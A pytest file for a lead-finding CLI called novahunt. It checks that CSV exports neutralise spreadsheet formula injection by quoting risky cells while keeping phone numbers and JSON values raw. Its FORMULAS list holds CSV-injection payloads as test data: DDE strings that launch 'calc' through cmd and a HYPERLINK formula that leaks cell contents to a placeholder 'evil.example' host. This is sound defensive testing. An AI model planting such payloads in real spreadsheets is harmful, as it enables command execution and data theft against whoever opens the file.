"""Every CSV novahunt writes is safe to open in a spreadsheet: a cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP, "CSV
Injection"), so Excel or LibreOffice shows it as text instead of running it; phone
numbers and negative numbers stay as they are; JSON keeps the raw values.

Before, `results`, `verifications`, `verify -o` and `enrich -o` wrote such cells as they
came: names and positions from Hunter and whole lead lists are a stranger's text.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from helpers import KEY, Cli, drain
from novahunt.inputs.exports import neutralise
from novahunt.sandbox import Fault, Sandbox
from novahunt.worker.runtime import WorkerRuntime

# the kind of cells: each would be evaluated by Excel or LibreOffice
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "=1+1+cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# what starts like a formula and is none: kept as it is
HARMLESS = ["+1 415 555 0134", "-5", "+33 (1) 84-88-12-34", "-0.5", "VP Sales", "", "a=b"]


def risky(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell not in HARMLESS


def assert_safe(rows: list[list[str]]) -> None:
    bad = [cell for row in rows for cell in row if risky(cell)]
    assert bad == [], bad


@pytest.mark.pure
def test_a_formula_gets_a_quote_and_a_phone_number_does_not() -> None:
    assert [neutralise(c) for c in FORMULAS] == ["'" + c for c in FORMULAS]
    assert [neutralise(c) for c in HARMLESS] == HARMLESS
    assert neutralise(-3) == -3 and neutralise(None) is None
    assert neutralise("-") == "'-" and neutralise("+A1") == "'+A1"


def hostile_page(sandbox: Sandbox, domain: str) -> dict[str, Any]:
    """The sandbox's own Domain Search page for `domain`, its people's fields replaced by
    FORMULAS (and HARMLESS phone numbers), served as the page novahunt buys."""
    sandbox.add_domain(domain, len(FORMULAS), organization=FORMULAS[0])
    page = httpx.get(f"{sandbox.url}/domain-search", headers={"X-API-KEY": KEY},
                     params={"domain": domain, "limit": 100, "offset": 0}).json()
    page["data"]["organization"] = FORMULAS[0]
    for i, entry in enumerate(page["data"]["emails"]):
        f = FORMULAS[i % len(FORMULAS)]
        entry.update(first_name=f, last_name=FORMULAS[(i + 1) % len(FORMULAS)], position=f,
                     position_raw=f, twitter=f, linkedin=f, type="personal",
                     phone_number=HARMLESS[i % 3])
    sandbox.inject(Fault(body=json.dumps(page)), domain=domain)
    assert isinstance(page, dict)
    return page


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_results_csv_neutralises_every_cell_and_json_keeps_them_raw(
        sandbox: Sandbox, cli: Cli, inline_worker: WorkerRuntime, tmp_path: Path) -> None:
    hostile_page(sandbox, "sheet.example")
    assert cli("collect", "sheet.example")[0] == 0
    drain(inline_worker)
    # JSON keeps the values as they were stored
    code, out, _ = cli("results", "sheet.example", "--format", "json")
    assert code == 0
    stored = {r["email"]: r for r in json.loads(out)}
    assert len(stored) == len(FORMULAS)
    assert {r["position"] for r in stored.values()} == {f.strip() for f in FORMULAS}
    code, out, err = cli("results", "sheet.example", "--format", "csv")
    assert code == 0, err
    rows = parse(out)
    assert len(rows) == 1 + len(FORMULAS)
    assert_safe(rows)
    header = rows[0]
    by_email = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    for email, raw in stored.items():
        row = by_email[email]
        for field in ("first_name", "position", "position_raw", "twitter", "linkedin"):
            assert row[field] == "'" + raw[field], field   # the text, shown as text
        assert row["phone_number"] == raw["phone_number"]  # a phone number as it was
    # the same into a file with -o
    export = tmp_path / "sheet.csv"
    code, _, err = cli("results", "sheet.example", "--format", "csv", "-o", str(export))
    assert code == 0, err
    with export.open(newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == rows


def test_verifications_csv_neutralises_an_address_that_starts_like_a_formula(
        sandbox: Sandbox, cli: Cli, inline_worker: WorkerRuntime) -> None:
    """`=`, `+`, `-` and `|` are allowed before an address's @."""
    addresses = ["=cmd|calc@sheet.example", "-2+3@sheet.example", "ada@sheet.example"]
    assert cli("verify", "--", *addresses)[0] == 0
    drain(inline_worker)
    code, out, err = cli("verifications", "--format", "csv")
    assert code == 0, err
    rows = parse(out)
    assert_safe(rows)
    assert sorted(r[0] for r in rows[1:]) == sorted(
        ["'=cmd|calc@sheet.example", "'-2+3@sheet.example", "ada@sheet.example"])
    code, out, _ = cli("verifications", "--json")
    assert sorted(r["email"] for r in json.loads(out)) == sorted(addresses)


def test_verify_output_neutralises_the_input_files_own_cells(
        sandbox: Sandbox, cli: Cli, tmp_path: Path) -> None:
    """A lead list is a stranger's file: its cells come back neutralised too."""
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["name", "email", "note"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([formula, f"p{i}@sheet.example", HARMLESS[i % len(HARMLESS)]])
    out = tmp_path / "verified.csv"
    code, _, err = cli("verify", "--file", str(leads), "-o", str(out))
    assert code == 0, err
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(FORMULAS)
    assert_safe(rows)
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[2] for r in rows[1:]] == [HARMLESS[i % len(HARMLESS)]
                                        for i in range(len(FORMULAS))]


def test_enrich_output_neutralises_the_leads_and_what_the_finder_said(
        sandbox: Sandbox, cli: Cli, inline_worker: WorkerRuntime, tmp_path: Path) -> None:
    sandbox.add_domain("finder.example", 0)
    answer = {"data": {"first_name": "Ada", "last_name": "Lovelace",
                       "email": "ada@finder.example", "score": 90, "domain": "finder.example",
                       "accept_all": False, "position": FORMULAS[1], "company": FORMULAS[0],
                       "twitter": FORMULAS[4], "linkedin_url": FORMULAS[3],
                       "phone_number": "+1 415 555 0134", "sources": [],
                       "verification": {"date": None, "status": None}},
              "meta": {"params": {"domain": "finder.example", "first_name": "Ada",
                                  "last_name": "Lovelace"}}}
    sandbox.inject(Fault(body=json.dumps(copy.deepcopy(answer))), endpoint="email-finder",
                   domain="finder.example")
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["first name", "last name", "domain", "comment"])
        writer.writerow(["Ada", "Lovelace", "finder.example", FORMULAS[2]])
        writer.writerow(["Nobody", "Here", "nowhere.example", FORMULAS[5]])
    out = tmp_path / "enriched.csv"
    code, _, err = cli("enrich", str(leads), "-o", str(out))
    assert code == 0, err
    drain(inline_worker)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert_safe(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["enriched_email"] == "ada@finder.example"
    assert row["comment"] == "'" + FORMULAS[2]
    assert row["enriched_position"] == "'" + FORMULAS[1]
    assert row["enriched_company"] == "'" + FORMULAS[0]
    assert row["enriched_phone"] == "+1 415 555 0134"
    assert dict(zip(rows[0], rows[2], strict=True))["comment"] == "'" + FORMULAS[5]


def test_a_csv_novahunt_wrote_is_read_back_as_it_was(
        sandbox: Sandbox, cli: Cli, tmp_path: Path) -> None:
    """`verify --file` of a neutralised export verifies `-2+3@...`, not `'-2+3@...`."""
    addresses = ["=cmd|calc@sheet.example", "-2+3@sheet.example"]
    leads = tmp_path / "leads.csv"
    leads.write_text("email\n" + "".join(f"{a}\n" for a in addresses), encoding="utf-8")
    out = tmp_path / "verified.csv"
    assert cli("verify", "--file", str(leads), "-o", str(out))[0] == 0
    assert "'=cmd|calc@sheet.example" in out.read_text(encoding="utf-8")
    code, _, err = cli("verify", "--file", str(out), "--recheck", "--follow")
    assert code == 0, err
    code, listing, _ = cli("verifications", "--json")
    assert sorted(r["email"] for r in json.loads(listing)) == sorted(addresses)
    assert sandbox.count("email-verifier") == 4   # each address twice (--recheck)
